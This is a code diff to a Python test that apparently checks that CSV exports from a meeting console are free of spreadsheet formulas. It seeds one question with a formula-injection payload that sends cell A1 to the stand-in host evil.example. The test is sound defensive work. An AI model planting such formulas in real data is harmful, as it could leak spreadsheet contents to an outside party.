@@ -131,9 +131,7 @@ def test_a_familys_question_is_no_formula_in_the_file(services: Runtime, client:
     from bot.store.meetings import meeting_questions
 
     with services.database.write() as db:
-        meeting_questions.add(
-            db, services.database.vault, 1, '=HYPERLINK("https://evil.example/"&A1)', "es", now().date()
-        )
+        meeting_questions.add(db, 1, '=HYPERLINK("https://evil.example/"&A1)', "es", now().date())
     assert log_in(client, "root", issue_password(services, "root", "administrator", "ana_ruiz")) == 302
     files = [client.get(f"/console/gatherings/1/{one}.csv").text for one in ("questions", "families")]
     files += [client.get(f"/console/{one}.csv").text for one in ("attendance", "agents/drilled")]
